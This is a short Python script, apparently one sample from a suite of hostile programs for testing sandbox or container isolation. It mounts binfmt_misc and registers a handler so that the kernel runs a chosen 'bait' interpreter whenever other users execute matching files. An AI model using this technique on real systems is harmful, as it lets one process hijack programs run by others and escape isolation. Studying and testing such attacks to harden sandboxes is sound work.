"""Have the kernel run a program for files that others execute, by binfmt_misc."""

import os

from hostile import bait, mount, put

os.mkdir("binfmt")
mount("none", "binfmt", "binfmt_misc")
put("binfmt/register", f":{bait.name}:M::{bait.name}::{bait.interpreter}:", 0)
